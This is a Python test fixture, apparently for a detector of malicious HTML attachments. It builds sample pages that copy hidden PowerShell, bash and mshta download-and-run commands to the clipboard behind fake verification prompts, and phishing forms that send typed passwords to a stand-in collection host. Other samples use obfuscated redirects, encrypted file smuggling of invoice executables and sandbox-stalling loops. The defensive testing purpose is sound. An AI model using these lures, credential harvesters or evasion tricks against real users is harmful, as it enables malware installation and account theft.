"""Attached pages that act without a file: commands for the clipboard, forms that send what is typed, hidden addresses,
pages written by scripts, and files whose content only a library or a key that is not there would give."""

# ruff: noqa: E501  scripts are one line each, as they are mailed

import base64
import json

from tests.pages.smuggling_pages import QUIET, page

COMMAND = 'powershell -w hidden -c "iwr https://files.example/a.txt | iex" # Cloudflare verification 4711'
MAC_COMMAND = '/bin/bash -c "$(curl -fsSL https://files.example/a.sh)" # I am not a robot'
SHARE_COMMAND = "mshta https://files.example/a.hta" + " " * 90 + "# C:\\Company\\Reports\\October.docx"
KEYS = "<p>Press <b>Windows + R</b>, then <b>Ctrl + V</b> and Enter.</p>"
TARGET = "https://login.collect.example/take.php"
FORM = "<form id=f><input name=email placeholder=E-mail><input type=password name=pass><button id=go>Sign in</button></form>"
B64 = base64.b64encode


def hidden(text: str) -> str:
    """An expression whose value is the text, and that does not contain it."""
    return f"atob('{B64(text.encode()).decode()}')"


PAYLOAD = f"var s=atob('{B64(b'MZ' + bytes(range(256))).decode()}');{QUIET}"

_COMMANDS: dict[str, str] = {
    "on click": f"<button id=go>I am human</button>{KEYS}<script>go.onclick=()=>navigator.clipboard.writeText({hidden(COMMAND)})</script>",
    "without instruction": f"<button id=go>Continue</button><script>go.onclick=()=>navigator.clipboard.writeText({hidden(COMMAND)})</script>",
    "by itself": f"{KEYS}<script>navigator.clipboard.writeText({hidden(COMMAND)})</script>",
    "text area": f"{KEYS}<script>var t=document.createElement('textarea');t.value={hidden(COMMAND)};document.body.append(t);t.select();document.execCommand('copy');t.remove()</script>",
    "copy event": f"<p>Copy the code 4711 and paste it into Run.</p><script>document.addEventListener('copy',e=>{{e.clipboardData.setData('text/plain',{hidden(COMMAND)});e.preventDefault()}})</script>",
    "clipboard item": f"<button id=go>Verify</button>{KEYS}<script>go.onclick=()=>navigator.clipboard.write([new ClipboardItem({{'text/plain':new Blob([{hidden(COMMAND)}],{{type:'text/plain'}})}})])</script>",
    "pieces": "<button id=go>Verify</button><script>var p=['po','wer','shell',' -e ','SQBFAFgA'];go.addEventListener('mousedown',()=>navigator['clip'+'board']['write'+'Text'](p.join('')))</script>",
    "file explorer": f"<button id=go>Open File Explorer</button><input type=file id=up hidden><p>Ctrl + L, Ctrl + V</p><script>go.onclick=()=>{{navigator.clipboard.writeText({hidden(SHARE_COMMAND)});up.click()}}</script>",
    "terminal": f"<button id=go>Copy</button><p>Open Terminal and press Cmd + V.</p><script>go.onclick=()=>navigator.clipboard.writeText({hidden(MAC_COMMAND)})</script>",
    "shown and told": f"<code id=c>{COMMAND}</code><button id=go>Copy</button>{KEYS}<script>go.onclick=()=>navigator.clipboard.writeText(c.textContent)</script>",
    "jquery": f"<button id=go>Verify</button>{KEYS}<script src='https://code.jquery.example/jquery.js'></script><script>$('#go').click(function(){{var t=$('<textarea>').appendTo('body').val({hidden(COMMAND)});t.get(0).select();document.execCommand('copy')}})</script>",
    "selection": f"{KEYS}<script>var d=document.createElement('div');d.textContent={hidden(COMMAND)};document.body.append(d);var r=document.createRange();r.selectNodeContents(d);getSelection().addRange(r);document.execCommand('copy')</script>",
}

_LOGINS: dict[str, str] = {
    "fetch": f"{FORM}<script>f.onsubmit=e=>{{e.preventDefault();fetch({hidden(TARGET)},{{method:'POST',body:new FormData(f)}})}}</script>",
    "fetch of json": f"{FORM}<script>f.addEventListener('submit',async e=>{{e.preventDefault();await fetch({hidden(TARGET)},{{method:'POST',body:JSON.stringify({{u:f.email.value,p:f.pass.value}})}})}})</script>",
    "in base64": f"{FORM}<script>f.onsubmit=e=>{{e.preventDefault();fetch({hidden(TARGET)}+'?d='+btoa(f.email.value+':'+f.pass.value))}}</script>",
    "xml http request": f"{FORM}<script>go.onclick=()=>{{var x=new XMLHttpRequest;x.open('POST',{hidden(TARGET)});x.send('p='+encodeURIComponent(document.querySelector('[type=password]').value))}}</script>",
    "beacon": f"{FORM}<script>addEventListener('beforeunload',()=>navigator.sendBeacon({hidden(TARGET)},document.forms[0].pass.value))</script>",
    "picture": f"{FORM}<script>go.onclick=()=>{{new Image().src={hidden(TARGET)}+'?p='+escape(f.pass.value)}}</script>",
    "web socket": f"{FORM}<script>var w=new WebSocket({hidden(TARGET.replace('https', 'wss'))});f.pass.oninput=()=>w.send(f.pass.value)</script>",
    "messenger": f"{FORM}<script>go.onclick=e=>{{e.preventDefault();fetch('https://api.telegram.example/bot'+'123:abc'+'/sendMessage',{{method:'POST',body:JSON.stringify({{chat_id:1,text:f.email.value+' '+f.pass.value}})}})}}</script>",
    "jquery": f"{FORM}<script src='https://code.jquery.example/jquery-3.7.min.js'></script><script>$('#go').click(function(e){{e.preventDefault();$.ajax({{url:{hidden(TARGET)},type:'POST',data:{{u:$('input[name=email]').val(),p:$('input[name=pass]').val()}}}})}})</script>",
    "axios": f"{FORM}<script src='https://cdn.example/axios.min.js'></script><script>f.onsubmit=e=>{{e.preventDefault();axios.post({hidden(TARGET)},{{p:f.pass.value}})}}</script>",
    "action set late": f"{FORM}<script>f.onsubmit=()=>{{f.action={hidden(TARGET)};f.method='post'}}</script>",
    "text security": f"<form id=f><input name=word style='-webkit-text-security:disc'><button>Open</button></form><script>f.onsubmit=e=>{{e.preventDefault();fetch({hidden(TARGET)},{{method:'POST',body:f.word.value}})}}</script>",
    "prompt": f"<script>var p=prompt('Your session has expired. Password:');fetch({hidden(TARGET)}+'?'+p)</script>",
    "keys": f"{FORM}<script>var k='';f.pass.addEventListener('keyup',e=>{{k=f.pass.value;fetch({hidden(TARGET)},{{method:'POST',body:k.split('').reverse().join('')}})}})</script>",
    "written form": f"<script>var d=atob('{B64(bytes(byte ^ 21 for byte in FORM.encode())).decode()}'),h='';for(var i=0;i<d.length;i++)h+=String.fromCharCode(d.charCodeAt(i)^21);document.body.innerHTML=h;f.onsubmit=e=>{{e.preventDefault();fetch({hidden(TARGET)},{{method:'POST',body:f.pass.value}})}}</script>",
    "built elements": f"<script>var i=document.createElement('input');i.type='password';i.name='p';document.body.append(i);var b=document.createElement('button');b.onclick=()=>fetch({hidden(TARGET)}+'?'+i.value);document.body.append(b)</script>",
    "generated page": f"<script>location=URL.createObjectURL(new Blob([{hidden('<html><body>' + FORM.replace('id=f', f'action={TARGET} method=post'))}],{{type:'text/html'}}))</script>",
    "whole page": f"<script>document.open();document.write({hidden('<!doctype html><html><body><h1>Sign in</h1>' + FORM.replace('id=f', f'action={TARGET} method=post') + '</body></html>')});document.close()</script>",
}

_REDIRECTS: dict[str, str] = {
    "decoded": f"<script>location.href={hidden(TARGET)}</script>",
    "pieces": "<script>var h=['login','collect','example'];window['loc'+'ation']['rep'+'lace']('ht'+'tps://'+h.join('.'))</script>",
    "later": f"<script>setTimeout(()=>top.location.assign({hidden(TARGET)}),3000)</script>",
    "window": f"<button id=go>Read</button><script>go.onclick=()=>window.open({hidden(TARGET)})</script>",
    "link": f"<script>var a=document.createElement('a');a.href={hidden(TARGET)};document.body.append(a);a.click()</script>",
    "refresh": f"""<script>document.write('<meta http-equiv=refresh content="0;url='+{hidden(TARGET)}+'">')</script>""",
    "exclusive or": f"<script>var c={json.dumps([ord(char) ^ 91 for char in TARGET])},u='';for(var n of c)u+=String.fromCharCode(n^91);self.location=u</script>",
    "handler": f'<body onload="location={hidden(TARGET)}">',
    "broken picture": f'<img src=x onerror="location={hidden(TARGET)}">',
    "from a server": "<script>fetch('https://cdn.example/next').then(r=>r.json()).then(j=>{location=j.url})</script>",
    "string timer": f"<script>setTimeout('location='+JSON.stringify({hidden(TARGET)}),50)</script>",
    "script link": f'<a href="javascript:location={hidden(TARGET)}">Read</a>',
}

_UNKNOWN: dict[str, str] = {
    "library decrypts": "<script src='https://cdn.example/crypto-js.min.js'></script><script>var d=CryptoJS.AES.decrypt('U2FsdGVkX19','k').toString(CryptoJS.enc.Utf8);var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([d]));a.download='invoice.iso';a.click()</script>",
    "web assembly": "<script>WebAssembly.instantiate(Uint8Array.from(atob('AGFzbQEAAAA='),c=>c.charCodeAt(0))).then(m=>{var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([m.instance.exports.unpack()]));a.download='invoice.exe';a.click()})</script>",
    "key in the page": "<script>(async()=>{const k=await crypto.subtle.importKey('raw',new Uint8Array(16),'AES-CBC',false,['decrypt']);const d=await crypto.subtle.decrypt({name:'AES-CBC',iv:new Uint8Array(16)},k,new Uint8Array(64));const a=document.createElement('a');a.href=URL.createObjectURL(new Blob([d]));a.download='invoice.img';a.click()})()</script>",
    "decrypted page": "<script>crypto.subtle.importKey('raw',new Uint8Array(16),'AES-GCM',0,['decrypt']).then(k=>crypto.subtle.decrypt({name:'AES-GCM',iv:new Uint8Array(12)},k,new Uint8Array(300))).then(d=>document.write(new TextDecoder().decode(d)))</script>",
    "fetched page": "<script>fetch('https://cdn.example/page').then(r=>r.text()).then(t=>{document.documentElement.innerHTML=t})</script>",
    "fetched script": "<script>fetch('https://cdn.example/code').then(r=>r.text()).then(t=>(0,eval)(t))</script>",
    "fetched file": "<script>fetch('https://cdn.example/file').then(r=>r.blob()).then(b=>{var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.exe';a.click()})</script>",
}

# Pages that work against the limits of an analysis.
_STALLING: dict[str, str] = {
    "computes first": f"<script>var n=0;for(var i=0;i<4e9;i++)n^=i;{PAYLOAD}</script>",
    "computes in a timer": f"<script>setTimeout(()=>{{var n=0;for(var i=0;i<4e9;i++)n^=i;{PAYLOAD}}},99)</script>",
    "fills the memory first": f"<script>var k=[];for(var i=0;i<99;i++)k.push(new Uint8Array(5e6));{PAYLOAD}</script>",
    "many files before": f"<script>for(var i=0;i<900;i++)new Blob(['nothing of worth '+i]);{PAYLOAD}</script>",
    "large files before": f"<script>for(var i=0;i<9;i++)new Blob([new Uint8Array(3e6)]);{PAYLOAD}</script>",
    "many pictures before": f"<script>for(var i=0;i<900;i++)new Image().src='https://cdn.example/'+i;{PAYLOAD}</script>",
    "many codes before": f"<script>for(var i=0;i<300;i++)Function('return '+i)();{PAYLOAD}</script>",
}

COMMANDS, LOGINS, REDIRECTS, UNKNOWN, STALLING = (
    {name: page(body) for name, body in bodies.items()}
    for bodies in (_COMMANDS, _LOGINS, _REDIRECTS, _UNKNOWN, _STALLING)
)
# Nothing that a person could read.
UNKNOWN |= {
    "nothing but a script of a server": "<!doctype html><html><body><script src='https://cdn.example/a.js'></script></body></html>"
}
